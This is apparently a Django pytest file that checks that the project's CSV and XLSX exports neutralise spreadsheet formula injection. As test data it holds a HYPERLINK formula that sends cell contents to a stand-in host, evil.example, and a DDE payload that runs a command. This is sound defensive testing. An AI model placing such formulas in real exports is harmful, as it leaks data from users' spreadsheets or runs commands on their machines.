"""Spreadsheet exports never hand a spreadsheet a formula: through the real downloads of the
public pages, the admin actions and the import-export resources."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from apartments.models import Community
from talentportal.exports import FORMULA_STARTS, csv_cell, csv_writer
from tests.apartments.factories import CommunityFactory, UnitFactory
from tests.policies.factories import PolicyFactory, region
from tests.projects.roadshow_factories import RegistrationFactory
from tests.talentportal.factories import UserFactory

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_an_apostrophe(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["杭州", "a=b", "1-2", "", 42, -3, None])
def test_plain_values_are_left_alone(value):
    assert csv_cell(value) == value


def test_the_writer_escapes_every_text_cell_and_keeps_numbers():
    out = io.StringIO()
    csv_writer(out).writerows([[EVIL, "@SUM(A1)", -5, "ok"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + EVIL, "'@SUM(A1)", "-5", "ok"]


def test_public_occupancy_csv(client):
    UnitFactory(community=CommunityFactory(name_zh=EVIL))
    rows = rows_of(
        client.get(reverse("apartments:occupancy"), {"format": "csv", "level": "community"})
    )
    assert [row[1] for row in rows[1:] if EVIL in row[1]] == ["'" + EVIL]


def test_admin_vacancy_report_csv(admin_client):
    community = CommunityFactory(name_zh=EVIL)
    UnitFactory(community=community)
    response = admin_client.get(reverse("admin:apartments_community_vacancy"), {"format": "csv"})
    rows = rows_of(response)
    assert any(row[0] == "'" + EVIL for row in rows)
    assert Community.objects.filter(name_zh=EVIL).exists()  # the data itself is unchanged


def test_roadshow_attendee_export(admin_client):
    registration = RegistrationFactory(user=UserFactory(display_name="+cmd|' /C calc'!A0"))
    response = admin_client.post(
        reverse("admin:projects_roadshow_changelist"),
        {"action": "export_attendees", "_selected_action": [registration.roadshow_id]},
    )
    rows = rows_of(response)
    assert rows[1][1] == "'+cmd|' /C calc'!A0"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_policy_export_through_import_export(admin_client, file_format):
    PolicyFactory(title_zh=EVIL, region=region("330100"))
    formats = {"csv": "0", "xlsx": "1"}
    response = admin_client.post(
        reverse("admin:policies_policy_export"),
        {
            "format": formats[file_format],
            "resource": "0",
            **{f"policyresource_{name}": "on" for name in ("id", "title_zh", "region")},
        },
    )
    assert response.status_code == 200
    if file_format == "csv":
        titles = [row["title_zh"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        header = [cell.value for cell in sheet[1]]
        column = header.index("title_zh")
        titles = [row[column] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert titles == ["'" + EVIL]


def test_every_csv_writer_of_the_project_escapes_formulas():
    """A new export must use `talentportal.exports.csv_writer`, not the bare `csv.writer`."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = ["talentportal", "policies", "talents", "projects", "apartments", "ecosystem"]
    bare = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if path.name != "exports.py"
        and ("csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text)
    ]
    assert not bare
